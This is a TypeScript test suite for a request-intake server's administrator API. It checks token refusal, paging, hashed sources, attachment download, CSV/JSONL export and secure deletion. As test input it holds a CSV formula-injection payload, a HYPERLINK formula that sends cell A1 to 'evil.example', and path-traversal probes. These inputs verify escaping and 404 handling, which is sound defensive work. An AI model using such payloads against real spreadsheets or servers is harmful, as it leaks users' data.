import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { existsSync, readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import Database from 'better-sqlite3';
import sharp from 'sharp';
import { csvCell } from '../../server/admin.js';
import { openDatabase } from '../../server/db.js';
import type { Level } from '../../server/log.js';
import { ADMIN_TOKEN, bearer, json, png, startTestReceiver, submit, tempDataDir, validRequests, type TestReceiver } from './support.js';

/** A minimal RFC 4180 reader for the export: quoted cells, doubled quotes, CRLF rows. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  for (const line of text.replace(/^\uFEFF/, '').split('\r\n').filter(Boolean)) {
    rows.push([...line.matchAll(/"((?:[^"]|"")*)"(?:;|$)/g)].map((m) => m[1]!.replace(/""/g, '"')));
  }
  return rows;
}

describe('administrator routes', () => {
  let receiver: TestReceiver;
  const ids: string[] = [];
  before(async () => {
    receiver = await startTestReceiver();
    const requests = [
      { request: validRequests.staff, screenshots: [{ bytes: await png(40, 30) }] },
      { request: validRequests.parent },
      {
        request: {
          ...validRequests.student,
          fullName: '=HYPERLINK("https://evil.example?"&A1,"Открыть")',
          description: '+7 999 не приходит код; =1+2 в ячейке, "кавычки", и перенос\nстроки',
        },
      },
    ];
    for (const r of requests) ids.push((await json(await submit(receiver.endpoint, r))).id);
  });
  after(() => receiver.dispose());

  const get = (path: string, headers: Record<string, string> = bearer()) => fetch(`${receiver.url}${path}`, { headers });

  describe('refuse without the right token', () => {
    // 4 × 5 wrong tokens reach the limit of wrong tokens per address: on a receiver of their own, so
    // that the other tests' address is not refused after them.
    let refusing: TestReceiver;
    let id: string;
    before(async () => {
      refusing = await startTestReceiver();
      id = (await json(await submit(refusing.endpoint, { screenshots: [{ bytes: await png(10, 10) }] }))).id;
    });
    after(() => refusing.dispose());
    const get = (path: string, headers: Record<string, string>) => fetch(`${refusing.url}${path}`, { headers });
    const paths = () => ['/api/requests', `/api/requests/${id}`, `/api/requests/${id}/attachments/1`, '/api/requests/export.csv', '/api/requests/export.jsonl'];
    for (const [name, headers] of [
      ['no Authorization header', {}],
      ['a wrong token', bearer('wrong-token-wrong-token-wrong-token')],
      ['a token that is a prefix of the right one', bearer(ADMIN_TOKEN.slice(0, -1))],
      ['another scheme', { Authorization: `Basic ${Buffer.from(`admin:${ADMIN_TOKEN}`).toString('base64')}` }],
    ] as [string, Record<string, string>][]) {
      it(`with ${name}: 401 and a JSON message`, async () => {
        for (const path of paths()) {
          const response = await get(path, headers);
          assert.equal(response.status, 401, path);
          assert.equal((await json(response)).error, 'unauthorized');
        }
      });
    }
  });

  it('lists requests newest first, paged', async () => {
    const all = await json(await get('/api/requests'));
    assert.equal(all.total, 3);
    assert.deepEqual(
      all.items.map((i: { id: string }) => i.id),
      [...ids].reverse(),
    );
    const page2 = await json(await get('/api/requests?page=2&limit=2'));
    assert.deepEqual(
      page2.items.map((i: { id: string }) => i.id),
      [ids[0]],
    );
    assert.equal(page2.pages, 2);
  });

  it('reads page and limit as whole numbers: others fall back to the defaults, out of range is clamped', async () => {
    const probe = async (query: string) => {
      const response = await get(`/api/requests?${query}`);
      assert.equal(response.status, 200, query);
      const body = await json(response);
      return { page: body.page, limit: body.limit, ids: body.items.map((i: { id: string }) => i.id) };
    };
    const newestFirst = [...ids].reverse();
    // Not whole numbers: the defaults (page 1, limit 50).
    assert.deepEqual(await probe('page=1e308&limit=abc'), { page: 1, limit: 50, ids: newestFirst });
    assert.deepEqual(await probe('page=abc&limit=1e3'), { page: 1, limit: 50, ids: newestFirst });
    assert.deepEqual(await probe('page=&limit=2.5'), { page: 1, limit: 50, ids: newestFirst });
    assert.deepEqual(await probe('page=0x2&limit=%201'), { page: 1, limit: 50, ids: newestFirst });
    // Out of range: clamped.
    assert.deepEqual(await probe('page=0&limit=0'), { page: 1, limit: 1, ids: newestFirst.slice(0, 1) });
    assert.deepEqual(await probe('page=-7&limit=-3'), { page: 1, limit: 1, ids: newestFirst.slice(0, 1) });
    assert.deepEqual(await probe('limit=100000'), { page: 1, limit: 200, ids: newestFirst });
    assert.deepEqual(await probe(`page=${'9'.repeat(400)}&limit=${'9'.repeat(400)}`), { page: Number.MAX_SAFE_INTEGER, limit: 200, ids: [] });
    assert.deepEqual(await probe(`page=${Number.MAX_SAFE_INTEGER}&limit=200`), { page: Number.MAX_SAFE_INTEGER, limit: 200, ids: [] });
    assert.deepEqual(await probe('page=%2B2&limit=2'), { page: 2, limit: 2, ids: newestFirst.slice(2) });
  });

  it('shows where requests came from as a short source, never the address', async () => {
    const { items } = await json(await get('/api/requests'));
    const sources = items.map((i: { source: string }) => i.source);
    // All three came from this test's loopback address.
    assert.equal(new Set(sources).size, 1);
    assert.match(sources[0], /^[0-9a-f]{8}$/);
    const [stored] = receiver.rows<{ client_hash: string }>('SELECT client_hash FROM requests WHERE number = ?', ids[0]);
    assert.equal(sources[0], stored!.client_hash.slice(0, 8));
    assert.equal((await json(await get(`/api/requests/${ids[0]}`))).source, sources[0]);
  });

  it('shows one request with its attachments as URLs', async () => {
    const response = await get(`/api/requests/${ids[0]}`);
    assert.equal(response.status, 200);
    assert.equal(response.headers.get('cache-control'), 'no-store');
    const detail = await json(response);
    assert.equal(detail.role, 'staff');
    assert.equal(detail.consentVersion, '2025-09');
    assert.deepEqual(detail.request, validRequests.staff);
    assert.deepEqual(detail.attachments, [{ n: 1, type: 'image/png', bytes: detail.attachments[0].bytes, width: 40, height: 30, url: `/api/requests/${ids[0]}/attachments/1` }]);
  });

  it('serves an attachment for download only, with its real type', async () => {
    const response = await get(`/api/requests/${ids[0]}/attachments/1`);
    assert.equal(response.status, 200);
    assert.equal(response.headers.get('content-type'), 'image/png');
    assert.equal(response.headers.get('x-content-type-options'), 'nosniff');
    assert.match(response.headers.get('content-disposition') ?? '', /^attachment; filename="\d{4}-\d{6}-1\.png"$/);
    const { width } = await sharp(Buffer.from(await response.arrayBuffer())).metadata();
    assert.equal(width, 40);
  });

  it('answers 404 for an unknown request or attachment', async () => {
    assert.equal((await get('/api/requests/1999-000001')).status, 404);
    assert.equal((await get(`/api/requests/${ids[0]}/attachments/2`)).status, 404);
    assert.equal((await get(`/api/requests/${ids[1]}/attachments/1`)).status, 404);
    assert.equal((await get(`/api/requests/${ids[0]}/attachments/..%2F..%2Frequests.sqlite`)).status, 404);
  });

  it('exports CSV, oldest first, that a spreadsheet opens without running formulas', async () => {
    const response = await get('/api/requests/export.csv');
    assert.equal(response.status, 200);
    assert.match(response.headers.get('content-type') ?? '', /^text\/csv; charset=utf-8/);
    assert.match(response.headers.get('content-disposition') ?? '', /^attachment/);
    const text = await response.text();
    const [header, ...rows] = parseCsv(text);
    assert.equal(header![0], 'id');
    assert.deepEqual(header!.slice(1, 3), ['created_at', 'source']);
    for (const row of rows) assert.match(row[2]!, /^[0-9a-f]{8}$/);
    assert.match(text, /^\uFEFF?"id";"/, 'Excel with Russian settings splits on ;');
    assert.deepEqual(
      rows.map((r) => r[0]),
      ids,
    );
    const col = (name: string) => header!.indexOf(name);
    const student = rows[2]!;
    assert.equal(student[col('full_name')], `'=HYPERLINK("https://evil.example?"&A1,"Открыть")`);
    assert.equal(student[col('description')], `'+7 999 не приходит код; =1+2 в ячейке, "кавычки", и перенос\nстроки`);
    assert.equal(rows[0]![col('screenshots')], '1');
    for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
  });

  it('escapes every cell a spreadsheet would read as a formula', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) assert.equal(csvCell(`${start}cmd`), `"'${start}cmd"`);
    assert.equal(csvCell('обычный текст'), '"обычный текст"');
    assert.equal(csvCell('say "hi"'), '"say ""hi"""');
    assert.equal(csvCell(undefined), '""');
  });

  it('exports JSON Lines with one full request per line', async () => {
    const response = await get('/api/requests/export.jsonl');
    assert.equal(response.status, 200);
    const lines = (await response.text()).trim().split('\n').map((l) => JSON.parse(l));
    assert.deepEqual(
      lines.map((l) => l.id),
      ids,
    );
    assert.equal(lines[1].request.fullName, validRequests.parent.fullName);
    assert.equal(lines[0].attachments[0].url, `/api/requests/${ids[0]}/attachments/1`);
  });

  it('exports in batches, whatever the number of requests', async () => {
    const dataDir = tempDataDir();
    openDatabase(join(dataDir, 'requests.sqlite')).close();
    const db = new Database(join(dataDir, 'requests.sqlite'));
    const insert = db.prepare(
      `INSERT INTO requests (number, year, year_seq, role, request, consent_version, created_at, idempotency_key, body_hash, client_hash, response)
       VALUES (?, 2026, ?, 'staff', ?, 'v', '2026-01-01T00:00:00.000Z', ?, '', '', '')`,
    );
    db.transaction(() => {
      for (let i = 1; i <= 501; i++) insert.run(`2026-${String(i).padStart(6, '0')}`, i, JSON.stringify(validRequests.staff), `key-${i}-0123456789abcdef`);
    })();
    db.close();
    const many = await startTestReceiver({}, { dataDir });
    try {
      const lines = (await (await fetch(`${many.url}/api/requests/export.jsonl`, { headers: bearer() })).text()).trim().split('\n');
      assert.equal(lines.length, 501);
      assert.equal(new Set(lines.map((l) => JSON.parse(l).id)).size, 501);
    } finally {
      await many.dispose();
    }
  });
});

describe('the source of a request', () => {
  it('is the same for requests from one address, differs for another, and never shows the address', async () => {
    const receiver = await startTestReceiver({ TRUST_PROXY: '1' });
    try {
      const from = async (address: string) => (await json(await submit(receiver.endpoint, { headers: { 'X-Forwarded-For': address } }))).id as string;
      const [a1, a2, b] = [await from('203.0.113.7'), await from('203.0.113.7'), await from('198.51.100.9')];
      const detail = async (id: string) => json(await fetch(`${receiver.url}/api/requests/${id}`, { headers: bearer() }));
      const [s1, s2, s3] = [(await detail(a1)).source, (await detail(a2)).source, (await detail(b)).source];
      assert.equal(s1, s2);
      assert.notEqual(s1, s3);
      for (const s of [s1, s3]) assert.match(s, /^[0-9a-f]{8}$/);

      const list = await json(await fetch(`${receiver.url}/api/requests`, { headers: bearer() }));
      assert.deepEqual(
        list.items.map((i: { source: string }) => i.source),
        [s3, s1, s1],
      );
      const jsonl = (await (await fetch(`${receiver.url}/api/requests/export.jsonl`, { headers: bearer() })).text()).trim().split('\n').map((l) => JSON.parse(l));
      assert.deepEqual(
        jsonl.map((l) => l.source),
        [s1, s1, s3],
      );
      const csv = await (await fetch(`${receiver.url}/api/requests/export.csv`, { headers: bearer() })).text();
      const [header, ...rows] = parseCsv(csv);
      assert.deepEqual(
        rows.map((r) => r[header!.indexOf('source')]),
        [s1, s1, s3],
      );
      for (const text of [JSON.stringify(list), JSON.stringify(jsonl), csv]) {
        assert.doesNotMatch(text, /203\.0\.113\.7|198\.51\.100\.9/);
      }
    } finally {
      await receiver.dispose();
    }
  });
});

describe('deleting a request', () => {
  let receiver: TestReceiver;
  before(async () => {
    receiver = await startTestReceiver();
  });
  after(() => receiver.dispose());

  const get = (path: string, headers: Record<string, string> = bearer()) => fetch(`${receiver.url}${path}`, { headers });
  const del = (id: string, headers: Record<string, string> = bearer()) => fetch(`${receiver.url}/api/requests/${id}`, { method: 'DELETE', headers });
  const filesOf = (id: string) =>
    receiver.rows<{ file: string }>('SELECT a.file FROM attachments a JOIN requests r ON r.seq = a.request_seq WHERE r.number = ?', id).map((r) => r.file);

  it('removes the row, its attachments and their files; lists and exports no longer have it', async () => {
    const key = randomUUID();
    const gone = (await json(await submit(receiver.endpoint, { key, request: validRequests.parent, screenshots: [{ bytes: await png(20, 20) }, { bytes: await png(30, 20) }] }))).id as string;
    const kept = (await json(await submit(receiver.endpoint, { screenshots: [{ bytes: await png(25, 25) }] }))).id as string;
    const files = filesOf(gone);
    assert.equal(files.length, 2);
    for (const file of files) assert.ok(receiver.attachmentFiles().includes(file));

    for (const headers of [{}, bearer('wrong-token-wrong-token-wrong-token'), bearer(ADMIN_TOKEN.slice(0, -1))]) {
      const refused = await del(gone, headers);
      assert.equal(refused.status, 401);
      assert.equal((await json(refused)).error, 'unauthorized');
    }
    assert.equal((await get(`/api/requests/${gone}`)).status, 200, 'a refused deletion deletes nothing');

    const response = await del(gone);
    assert.equal(response.status, 204);
    assert.equal(await response.text(), '');

    const detail = await get(`/api/requests/${gone}`, { ...bearer(), 'Accept-Language': 'en' });
    assert.equal(detail.status, 404);
    assert.deepEqual(await json(detail), { error: 'not-found', message: 'Not found.' });
    assert.equal((await get(`/api/requests/${gone}/attachments/1`)).status, 404);
    assert.equal((await get(`/api/requests/${gone}/attachments/2`)).status, 404);
    for (const file of files) assert.ok(!receiver.attachmentFiles().includes(file), `${file} is still in DATA_DIR/attachments`);
    assert.equal(filesOf(kept).length, 1);
    assert.ok(receiver.attachmentFiles().includes(filesOf(kept)[0]!), 'the other request keeps its file');
    assert.deepEqual(receiver.rows('SELECT * FROM requests WHERE number = ? OR idempotency_key = ?', gone, key), []);
    assert.equal(receiver.rows('SELECT * FROM attachments').length, 1);

    const list = await json(await get('/api/requests'));
    assert.equal(list.total, 1);
    assert.deepEqual(
      list.items.map((i: { id: string }) => i.id),
      [kept],
    );
    const csv = await (await get('/api/requests/export.csv')).text();
    assert.deepEqual(
      parseCsv(csv)
        .slice(1)
        .map((r) => r[0]),
      [kept],
    );
    assert.doesNotMatch(csv, /Иванова/);
    const jsonl = await (await get('/api/requests/export.jsonl')).text();
    assert.deepEqual(
      jsonl
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l).id),
      [kept],
    );

    // Gone already, and never there: 404 in the request's language.
    const again = await del(gone);
    assert.equal(again.status, 404);
    assert.equal((await json(again)).message, 'Не найдено.');
    assert.equal((await del('1999-000001')).status, 404);
    assert.equal((await del('..%2F..%2Frequests.sqlite')).status, 404);
  });

  it('leaves none of the deleted text in the database files', async () => {
    const marker = `Уникальная-пометка-${randomUUID()}`;
    const stored = () =>
      ['requests.sqlite', 'requests.sqlite-wal']
        .map((f) => join(receiver.dataDir, f))
        .filter((f) => existsSync(f))
        .some((f) => readFileSync(f).includes(Buffer.from(marker)));
    const id = (await json(await submit(receiver.endpoint, { request: { ...validRequests.parent, description: `Не вижу оценки. ${marker}` } }))).id as string;
    assert.ok(stored(), 'the marker is on disk before the deletion');
    assert.equal((await del(id)).status, 204);
    assert.ok(!stored(), 'SQLite keeps deleted rows in free pages and the WAL unless told to overwrite them');
  });

  it('is not stopped by an attachment file that is already missing', async () => {
    const id = (await json(await submit(receiver.endpoint, { screenshots: [{ bytes: await png(21, 21) }, { bytes: await png(22, 22) }] }))).id as string;
    const [first, second] = filesOf(id);
    rmSync(join(receiver.dataDir, 'attachments', first!));
    assert.equal((await del(id)).status, 204);
    assert.ok(!receiver.attachmentFiles().includes(second!));
    assert.equal((await get(`/api/requests/${id}`)).status, 404);
  });

  it('never gives a deleted number to the next request', async () => {
    const newest = (await json(await submit(receiver.endpoint))).id as string;
    assert.equal((await del(newest)).status, 204);
    const next = (await json(await submit(receiver.endpoint))).id as string;
    assert.notEqual(next, newest);
    assert.ok(next > newest, `${next} after ${newest}`);
  });

  it('lets the deleted request\'s key store the request anew, as a new request', async () => {
    const key = randomUUID();
    const first = (await json(await submit(receiver.endpoint, { key }))).id as string;
    assert.equal((await del(first)).status, 204);
    const again = await submit(receiver.endpoint, { key });
    assert.equal(again.status, 201);
    assert.equal(again.headers.get('idempotent-replayed'), null);
    const id = (await json(again)).id as string;
    assert.notEqual(id, first);
    assert.equal((await get(`/api/requests/${id}`)).status, 200);
  });
});

describe('without ADMIN_TOKEN', () => {
  it('does not mount the administrator routes and says so in the log', async () => {
    const lines: { level: Level; msg: string }[] = [];
    const receiver = await startTestReceiver({ ADMIN_TOKEN: '' }, { log: (level, msg) => lines.push({ level, msg }) });
    try {
      await submit(receiver.endpoint);
      for (const path of ['/api/requests', '/api/requests/export.csv']) {
        const response = await fetch(`${receiver.url}${path}`, { headers: bearer() });
        assert.equal(response.status, 404, path);
      }
      assert.ok(lines.some((l) => l.level === 'warn' && /ADMIN_TOKEN is not set/.test(l.msg)));
    } finally {
      await receiver.dispose();
    }
  });
});
